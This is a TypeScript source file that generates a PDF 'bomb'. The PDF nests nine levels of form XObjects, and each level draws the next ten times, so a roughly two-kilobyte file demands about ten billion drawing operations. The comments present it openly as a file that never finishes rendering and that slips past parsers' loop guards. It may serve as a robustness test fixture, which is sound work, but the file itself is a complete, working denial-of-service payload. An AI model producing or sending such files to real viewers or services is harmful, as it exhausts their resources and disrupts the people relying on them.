/** How many forms lie in one another, and how often each draws the next: ten billion strokes in some two kilobytes. */
const [depth, times] = [9, 10];

/** A PDF that never ends: forms within forms, each drawn many times. No parser's guard against loops sees it. */
export function nestedForms(): Uint8Array {
  const draws = '/F Do '.repeat(times);
  const forms = Array.from({ length: depth }, (_, at) => {
    const isLast = at === depth - 1;
    const next = isLast ? '' : `/Resources<</XObject<</F ${6 + at} 0 R>>>>`;
    const head = `/Type/XObject/Subtype/Form/BBox[0 0 595 842]${next}`;
    return stream(head, isLast ? '0 0 1 1 re f ' : draws);
  });
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>',
    stream('', draws),
    ...forms,
  ]);
}

function stream(head: string, content: string): string {
  return `<<${head}/Length ${content.length}>>\nstream\n${content}\nendstream`;
}

function pdfOf(objects: readonly string[]): Uint8Array {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const table = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  text += `trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${table}\n%%EOF\n`;
  return new TextEncoder().encode(text);
}
